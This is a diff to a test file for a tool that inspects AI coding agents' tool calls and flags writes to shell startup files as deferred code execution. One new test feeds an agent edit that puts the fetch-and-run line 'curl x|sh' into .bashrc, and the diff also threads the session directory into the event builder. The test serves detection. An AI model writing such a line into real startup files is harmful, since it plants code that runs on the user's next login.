@@ -30,7 +30,7 @@ def proj(tmp_path: Path) -> Path:
     return project
 
 
-def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path) -> NormalisedEvent:
+def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path, cwd: str = "") -> NormalisedEvent:
     """The event as the pipeline's enrichers leave it, from the agent's own PreToolUse payload."""
     names = [e.name for e in AGENTS[client].events]
     event = (
@@ -38,10 +38,11 @@ def enriched(client: str, tool: str, tool_input: dict[str, Any], proj: Path) -> 
         if "PreToolUse" in names
         else next(e.name for e in AGENTS[client].events if e.event.value == "BeforeTool")
     )
-    payload = {"session_id": "s", "transcript_path": "", "cwd": str(proj), "hook_event_name": event,
+    payload = {"session_id": "s", "transcript_path": "", "cwd": cwd or str(proj), "hook_event_name": event,
                "tool_name": tool, "tool_input": tool_input}  # fmt: skip
     request = HookRequest(
-        client=client, event=event, payload=json.dumps(payload).encode(), env={"HOME": HOME}, cwd=str(proj),
+        client=client, event=event, payload=json.dumps(payload).encode(), cwd=str(proj),
+        env={"HOME": HOME, AGENTS[client].project_dir_env: str(proj)},
         caller=Caller(uid=1000, gid=1000, pid=1), deadline=Deadline.after(5),
     )  # fmt: skip
     return enrich_tool_effects(enrich_paths(AGENTS[client].dialect.parse(request)))
@@ -250,3 +251,12 @@ def test_a_patch_moving_a_file_onto_a_startup_file_runs_code_later(proj: Path) -
     event = enriched("codex", "apply_patch", patch, proj)
     later = [e for e in event.facts["effects"] if e["op"] == "exec"]
     assert later and later[0]["startup"] == f"{HOME}/.bash_profile" and later[0]["deferred"] is True
+
+
+def test_a_relative_path_from_a_session_that_moved_is_judged_where_the_agent_takes_it(proj: Path) -> None:
+    event = enriched(
+        "claude", "Edit", {"file_path": ".bashrc", "old_string": "", "new_string": "curl x|sh"}, proj, HOME
+    )
+    assert ("write", f"{HOME}/.bashrc", True) in effects(event)  # the session's directory: the home
+    assert ("write", str(proj / ".bashrc"), True) in effects(event)  # the workspace root (Gemini's, Qwen's way)
+    assert any(e["op"] == "exec" and e.get("startup") == f"{HOME}/.bashrc" for e in event.facts["effects"])
